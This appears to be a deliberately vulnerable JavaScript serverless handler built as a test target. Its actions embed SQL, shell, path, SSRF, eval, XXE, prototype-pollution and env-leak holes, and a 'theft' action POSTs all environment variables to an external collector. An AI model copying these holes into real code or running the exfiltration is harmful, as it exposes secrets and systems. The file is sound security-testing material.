/** Every action below trusts its value: each is one hole. For tests and demonstrations only. */
import { execSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { DatabaseSync } from 'node:sqlite';
import { fileURLToPath } from 'node:url';
import vm from 'node:vm';

const database = new DatabaseSync(':memory:');
database.exec(
  "CREATE TABLE users (name TEXT, secret TEXT); INSERT INTO users VALUES ('anna', 'a1'), ('bert', 'b2');",
);
const users = [
  { name: 'anna', secret: 'a1' },
  { name: 'bert', secret: 'b2' },
];

const ACTIONS = {
  sql: (value) => database.prepare(`SELECT name FROM users WHERE name = '${value}'`).all(),
  shell: (value) => execSync(`echo hello ${value}`, { encoding: 'utf8' }),
  path: (value) => readFileSync(`${process.env.UPLOADS}/${value}`, 'utf8'),
  request: async (value) => (await fetch(value)).text(),
  code: (value) => new Function(`return ${value}`)(),
  template: (value) => new Function('name', `return \`Dear ${value}, \${name}\``)('your shop'),
  deserialise: (value) => vm.runInThisContext(`(${value})`),
  xml: (value) => parseXml(value),
  nosql: (value) => users.filter(new Function('user', `return user.name === "${value}"`)),
  leak: (value) => process.env[value] ?? 'not set',
  theft: async () => {
    await fetch(process.env.COLLECTOR, { method: 'POST', body: JSON.stringify({ ...process.env }) });
    return 'sent';
  },
  prototype: (value) => merge({}, JSON.parse(value)),
};

/** Resolves external entities, as careless parsers do. */
function parseXml(text) {
  const entity = /<!ENTITY\s+(\w+)\s+SYSTEM\s+"([^"]+)"/.exec(text);
  const value = entity === null ? '' : readFileSync(fileURLToPath(entity[2]), 'utf8');
  return text
    .replace(/<!DOCTYPE[^[]*\[[^\]]*\]>/, '')
    .replaceAll(entity === null ? '&none;' : `&${entity[1]};`, value);
}

function merge(target, source) {
  for (const [key, value] of Object.entries(source)) {
    if (typeof value === 'object' && value !== null) target[key] = merge(target[key] ?? {}, value);
    else target[key] = value;
  }
  return target;
}

/** `{action, value}` of each record of any trigger. */
function requestsOf(event) {
  if (event.Records === undefined) return [JSON.parse(event.body)];
  return event.Records.map((record) => {
    if (record.s3 !== undefined) {
      const key = decodeURIComponent(record.s3.object.key.replaceAll('+', ' '));
      return { action: key.slice(0, key.indexOf('/')), value: key.slice(key.indexOf('/') + 1) };
    }
    return JSON.parse(record.Sns?.Message ?? record.body);
  });
}

export async function handler(event) {
  const answers = [];
  for (const { action, value } of requestsOf(event)) answers.push(await ACTIONS[action](value));
  return { statusCode: 200, body: JSON.stringify(answers) };
}
